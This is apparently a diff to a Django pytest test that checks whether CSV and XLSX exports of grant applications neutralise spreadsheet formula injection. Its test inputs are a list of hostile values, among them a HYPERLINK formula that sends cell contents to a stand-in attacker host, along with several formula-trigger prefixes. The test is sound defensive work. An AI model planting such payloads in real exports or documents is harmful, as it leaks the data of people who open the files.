@@ -20,15 +20,14 @@ pytestmark = pytest.mark.django_db
 def submitted(alice, complete_draft):
     return application_submit(user=alice, application_id=complete_draft.pk, now=timezone.now())
 
+
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+82-10-0000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_formula_in_a_company_name_or_title_is_neutralised_in_csv_and_xlsx(submitted, olivia, text):
-    company = submitted.company
-    company.name = text
-    company.save()
-    Application.objects.filter(pk=submitted.pk).update(project_title=text)
+    # The name as the company applied with it (exports carry the facts frozen at submission).
+    Application.objects.filter(pk=submitted.pk).update(project_title=text, company_facts=submitted.company_facts | {"name": text})
 
     data = export_build(export_id=export_request(user=olivia, call=submitted.call, format="csv").pk).file.read()
     row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
